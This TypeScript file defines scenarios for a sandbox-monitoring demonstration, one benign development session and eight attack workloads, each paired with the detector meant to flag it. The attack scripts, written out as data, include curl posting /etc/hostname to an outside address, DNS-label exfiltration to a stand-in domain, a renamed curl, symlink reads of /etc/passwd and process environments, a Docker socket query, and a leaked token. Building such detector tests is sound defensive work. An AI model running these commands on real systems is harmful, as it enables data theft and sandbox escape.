// What the tour runs: one benign session and the attacks, each a real program in a watched sandbox.
import { compiledEscape, memoryRunner } from './programs.ts';

/** One workload. `{{name}}` in files and commands is replaced by the stage's values. */
export interface Scenario {
  readonly name: string;
  readonly title: string;
  /** Files put into the workspace before the start: path → content. */
  readonly files: Readonly<Record<string, string>>;
  /** What runs in the sandbox, by `sh -c`. */
  readonly script: string;
  /** The detector that must find it; undefined for what must stay quiet. */
  readonly detector: string | undefined;
  /** What an ordinary observer of commands would have seen. */
  readonly disguise?: string;
}

/** A day's work that must raise nothing. */
export const benign: Scenario = {
  name: 'benign-session',
  title: 'an honest session: git, npm, python, a test run, an allowed download',
  files: {
    'add.py': 'def add(a, b):\n    return a + b\n',
    'test_add.py': [
      'import unittest',
      'from add import add',
      'class AddTest(unittest.TestCase):',
      '    def test_add(self):',
      '        self.assertEqual(add(2, 2), 4)',
      '',
    ].join('\n'),
    'package.json':
      '{ "name": "honest", "version": "1.0.0", "scripts": { "test": "echo tested" } }\n',
  },
  script: [
    'set -e',
    'git init -q . && git add . && git -c user.name=a -c user.email=a@b.test commit -qm first',
    'python3 -m unittest -q',
    'if command -v npm >/dev/null; then npm test --silent --no-update-notifier; fi',
    'curl -fsS -o download.txt http://files.sandtrail.test:{{port}}/hello.txt',
    'cat download.txt && git add download.txt && git status --short',
  ].join('\n'),
  detector: undefined,
};

/** The attacks, in the order of the tour. */
export const attacks: readonly Scenario[] = [
  {
    name: 'compiled-main',
    title: 'a compiled program tries to leave the sandbox',
    files: { 'main.c': compiledEscape },
    script: 'gcc -O1 -o main main.c && ./main',
    detector: 'escape-primitive',
    disguise: './main',
  },
  {
    name: 'renamed-curl',
    title: 'curl under another name fetches from where it may not',
    files: {},
    script:
      'cp /usr/bin/curl ./backup-notes && ./backup-notes -m 3 -s http://drop.example.net/x; true',
    detector: 'drift-execution',
    disguise: './backup-notes -m 3 -s …',
  },
  {
    name: 'printed-secret',
    title: 'a secret is printed and written to a file',
    files: {},
    script: [
      "python3 - <<'PY'",
      "token = 'gh' + 'p_' + '{{githubToken}}'",
      "print('debug: token is', token)",
      "open('notes.txt', 'w').write('remember ' + token + '\\n')",
      'PY',
    ].join('\n'),
    detector: 'secret-leak',
    disguise: 'python3 -',
  },
  {
    name: 'outside-allowlist',
    title: 'a connection to a destination outside the allowlist',
    files: {},
    script: 'curl -m 3 -s http://198.51.100.7/collect -d @/etc/hostname; true',
    detector: 'egress-policy',
  },
  {
    name: 'dns-labels',
    title: 'data leaves in the labels of DNS queries',
    files: {
      'leak.py': [
        'import base64, os, socket',
        'data = os.urandom(2400)',
        "text = base64.b32encode(data).decode().lower().rstrip('=')",
        'for at in range(0, len(text), 48):',
        '    try:',
        "        socket.gethostbyname(text[at:at + 48] + '.t.drop-example.com')",
        '    except OSError:',
        '        pass',
        '',
      ].join('\n'),
    },
    script: 'python3 leak.py',
    detector: 'dns-exfiltration',
    disguise: 'python3 leak.py',
  },
  {
    name: 'symlink-out',
    title: 'a path leaves the workspace through a symbolic link',
    files: {},
    script: 'ln -s / report && cat report/etc/passwd >/dev/null; cat report/proc/1/environ; true',
    detector: 'path-traversal',
    disguise: 'cat report/etc/passwd',
  },
  {
    name: 'docker-socket',
    title: 'the container engine’s socket is asked for a privileged container',
    files: {},
    script: 'curl -m 2 -s --unix-socket /var/run/docker.sock http://d/containers/json; true',
    detector: 'escape-primitive',
    disguise: 'curl …',
  },
  {
    name: 'memory-binary',
    title: 'a dropped binary runs from memory and never touches a disk',
    files: { 'run.py': memoryRunner },
    script: 'python3 run.py',
    detector: 'drift-execution',
    disguise: 'python3 run.py',
  },
];
